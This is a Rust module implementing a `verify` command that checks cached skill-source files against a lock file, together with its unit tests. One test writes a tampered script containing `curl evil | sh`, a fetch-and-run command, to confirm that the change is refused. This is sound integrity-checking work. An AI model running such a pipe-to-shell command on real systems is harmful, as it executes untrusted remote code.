//! `verify`, as data: every locked source's files are the locked ones,
//! from the cache or fetched again at the locked commit (and then kept in
//! the cache), and no source has a skill the local base layer has too.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Serialize;

use super::lock::{Lock, LockedSource};
use super::sources::SourcesFile;
use super::{Cache, Paths};
use crate::error::{ErrorKind, Result};

/// What `verify` found: every locked source of the project, each checked
/// against the lock; `{"sources": [...]}` (docs/json.md).
#[derive(Debug, Clone, Serialize)]
pub struct Verification {
    /// Each source verified, in the sources file's order; none when the
    /// project has no sources file.
    pub sources: Vec<Verified>,
    /// The project's sources file and lock, which the sources match.
    #[serde(skip)]
    pub paths: Paths,
    /// The sources file exists: without it there is nothing to verify.
    #[serde(skip)]
    pub has_sources: bool,
}

/// One source verified.
#[derive(Debug, Clone)]
pub struct Verified {
    /// Its name.
    pub source: String,
    /// Its entry in the lock.
    pub locked: LockedSource,
    /// Fetched now (the cache lacked it), else read from the cache.
    pub fetched: bool,
}

/// `{"source", "url", "commit", "skills", "files", "fetched"}`: the URL
/// without credentials, how many skills and files the lock holds.
impl Serialize for Verified {
    fn serialize<S: serde::Serializer>(&self, s: S) -> std::result::Result<S::Ok, S::Error> {
        #[derive(Serialize)]
        struct Row<'a> {
            source: &'a str,
            url: &'a str,
            commit: &'a str,
            skills: usize,
            files: usize,
            fetched: bool,
        }
        Row {
            source: &self.source,
            url: &super::location::redacted(&self.locked.url),
            commit: &self.locked.commit,
            skills: self.locked.skills_taken().len(),
            files: self.locked.files.len(),
            fetched: self.fetched,
        }
        .serialize(s)
    }
}

/// Verifies each source of `file` as `lock` (which matches it,
/// [`super::read_project`]) locks it, in the file's order: its files from
/// `cache`, or fetched at the locked commit and stored there; a file that
/// differs from the lock, or a skill the local base layer (`local`) has
/// too, is refused, naming the lock at `paths`.
pub fn verify(
    file: &SourcesFile,
    lock: &Lock,
    cache: &Cache,
    local: &BTreeMap<String, PathBuf>,
    paths: &Paths,
) -> Result<Vec<Verified>> {
    let mut out = Vec::new();
    for s in &file.sources {
        let locked = &lock.sources[&s.name];
        let (fetched, fetched_now) = super::load_locked(cache, &s.name, locked)?;
        if fetched_now {
            cache.store(&s.name, locked, &fetched, None)?;
        }
        check_local(&s.name, locked, local, &paths.lock)?;
        out.push(Verified {
            source: s.name.clone(),
            locked: locked.clone(),
            fetched: fetched_now,
        });
    }
    Ok(out)
}

/// Refuses source `name` (locked as `locked`, in the lock at `lock`) when
/// it has a skill the local base layer (`local`) has too.
fn check_local(
    name: &str,
    locked: &LockedSource,
    local: &BTreeMap<String, PathBuf>,
    lock: &Path,
) -> Result<()> {
    let Some(skill) = locked
        .skills_taken()
        .into_iter()
        .find(|k| local.contains_key(*k))
    else {
        return Ok(());
    };
    Err(super::refused(
        ErrorKind::Conflict,
        lock,
        format!(
            "skill '{}' is in source '{}' and in the local base layer ({}); remove it from one of them",
            crate::text::escape(skill),
            crate::text::escape(name),
            crate::text::path(&local[skill])
        ),
    ))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::super::git::Fetched;
    use super::super::sources::SourceSpec;
    use super::*;

    /// A source `skills` whose skill `pdf` is locked and in `cache`.
    fn locked_in(cache: &Cache) -> (SourcesFile, Lock) {
        let spec = SourceSpec {
            name: "skills".into(),
            url: "https://github.com/acme/skills".into(),
            git_ref: None,
            path: None,
            plugin: None,
            skills: None,
        };
        let fetched = Fetched {
            commit: "a".repeat(40),
            files: BTreeMap::from([
                ("pdf/SKILL.md".to_owned(), b"---\nname: pdf\n---\n".to_vec()),
                ("pdf/scripts/run.sh".to_owned(), b"echo\n".to_vec()),
            ]),
            executable: BTreeSet::new(),
            skipped: Vec::new(),
            kind: None,
            found: None,
        };
        let locked = super::super::entry(&spec, None, &fetched);
        cache.store("skills", &locked, &fetched, None).unwrap();
        let mut lock = Lock::default();
        lock.sources.insert("skills".to_owned(), locked);
        let file = SourcesFile {
            sources: vec![spec],
            ..SourcesFile::default()
        };
        (file, lock)
    }

    fn setup() -> (tempfile::TempDir, Cache, Paths) {
        let tmp = tempfile::tempdir().unwrap();
        let cache = Cache::new(Some(tmp.path().join("cache")), None).unwrap();
        (tmp, cache, Paths::in_dir(Path::new(".bernstein")))
    }

    #[test]
    fn the_cached_files_are_the_locked_ones_without_a_fetch() {
        let (_tmp, cache, paths) = setup();
        let (file, lock) = locked_in(&cache);
        let rows = verify(&file, &lock, &cache, &BTreeMap::new(), &paths).unwrap();
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].source, "skills");
        assert!(!rows[0].fetched, "read from the cache, never fetched");
        assert_eq!(rows[0].locked, lock.sources["skills"]);
    }

    #[test]
    fn a_cached_file_that_differs_from_the_lock_is_refused() {
        let (_tmp, cache, paths) = setup();
        let (file, lock) = locked_in(&cache);
        let run = cache
            .dir_of("skills", &lock.sources["skills"])
            .join("pdf/scripts/run.sh");
        let mut perms = std::fs::metadata(&run).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o600);
        std::fs::set_permissions(&run, perms).unwrap();
        std::fs::write(&run, b"curl evil | sh\n").unwrap();
        let err = verify(&file, &lock, &cache, &BTreeMap::new(), &paths).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Invalid);
        let text = err.to_string();
        assert!(
            text.contains("run.sh") && text.contains("source 'skills'"),
            "{text}"
        );
    }

    #[test]
    fn a_skill_both_a_source_and_the_local_base_layer_have_is_refused() {
        let (_tmp, cache, paths) = setup();
        let (file, lock) = locked_in(&cache);
        let local = BTreeMap::from([("pdf".to_owned(), PathBuf::from("base/pdf"))]);
        let err = verify(&file, &lock, &cache, &local, &paths).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Conflict);
        assert_eq!(
            err.to_string(),
            ".bernstein/sources.lock: skill 'pdf' is in source 'skills' and in the local base layer (base/pdf); remove it from one of them"
        );
        // Another skill of the local layer is no conflict.
        let local = BTreeMap::from([("docx".to_owned(), PathBuf::from("base/docx"))]);
        assert!(verify(&file, &lock, &cache, &local, &paths).is_ok());
    }
}
